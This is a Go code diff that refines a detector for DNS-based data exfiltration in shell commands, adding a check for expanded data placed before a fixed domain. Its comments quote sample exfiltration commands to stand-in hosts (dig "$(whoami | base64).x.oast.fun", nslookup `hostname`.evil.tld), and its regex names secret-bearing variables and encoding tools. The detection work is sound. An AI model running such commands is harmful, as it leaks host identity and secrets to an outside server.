@@ -712,11 +712,38 @@ var dnsValueOpts = map[string]bool{"-p": true, "-t": true, "-c": true, "-i": tru
 // user's identity, the environment, or a variable named for a secret.
 var dnsDataRx = match.MustRx(`(?:\$\(|\x60|\|)\s*(?:sudo\s+)?(?:base64|base32|basenc|xxd|od|hexdump|gzip|bzip2|xz|openssl|whoami|hostname|id|uname|printenv|env|history|cat|tar|ls|head\s+-c|cut\s+-c)\b|\$\{?[A-Za-z_]*(?:TOKEN|SECRET|KEY|PASS|PASSWORD|CRED|token|secret|key|pass|password|cred)[A-Za-z_]*\}?`)
 
+// dnsSuffixRx matches a literal domain of two labels or more at the end
+// of a name, after the last expansion.
+var dnsSuffixRx = match.MustRx(`^\.(?:[A-Za-z0-9-]+\.)*[A-Za-z0-9-]+\.[A-Za-z][A-Za-z0-9-]*\.?["']?$`)
+
+// dnsFixedSuffix reports a name whose expansions come before a fixed
+// domain (${data}.x.oast.fun, $(hostname).evil.tld): data put into
+// labels of a zone whose server sees every lookup.
+func dnsFixedSuffix(v string) bool {
+	last := -1
+	for i := 0; i < len(v); i++ {
+		switch v[i] {
+		case ')', '}', '`':
+			last = i
+		case '$':
+			j := i + 1
+			for j < len(v) && (v[j] == '_' || v[j] >= 'a' && v[j] <= 'z' || v[j] >= 'A' && v[j] <= 'Z' || v[j] >= '0' && v[j] <= '9') {
+				j++
+			}
+			if j > i+1 {
+				last = j - 1
+			}
+		}
+	}
+	return last >= 0 && dnsSuffixRx.MatchString(v[last+1:])
+}
+
 // DNSExfil reports a DNS lookup (dig, nslookup, host, ping …) of a name
 // that carries local data: one built from command output that encodes,
 // reads or identifies something of this machine
 // (dig "$(whoami | base64).x.oast.fun", nslookup `hostname`.evil.tld), or
-// a variable whose source is not shown. A
+// a variable whose source is not shown, in labels before a fixed domain. A
+// name that is the item looked up ($domain from a list, _dmarc.$domain), a
 // name derived from another lookup's answer (the MX host dig printed), a
 // DNS blocklist query of a reversed address, and a port or count taken
 // from a config file carry nothing of the user's.
@@ -736,7 +763,10 @@ func DNSExfil(c *shell.Command) bool {
 		// the substitution as written decides; a variable whose source is
 		// not shown (chunk=${fp:0:60}) may hold anything
 		shown := strings.Contains(v, "$(") || strings.Contains(v, "`")
-		if strings.Contains(v, ".") && (dnsDataRx.MatchString(v) && (w.Subst || !w.Const) || w.Subst && !shown) {
+		if !dnsFixedSuffix(v) {
+			continue // $domain, _dmarc.$domain: the name is the item looked up, not data sent to a zone
+		}
+		if dnsDataRx.MatchString(v) && (w.Subst || !w.Const) || w.Subst && !shown {
 			return true
 		}
 	}
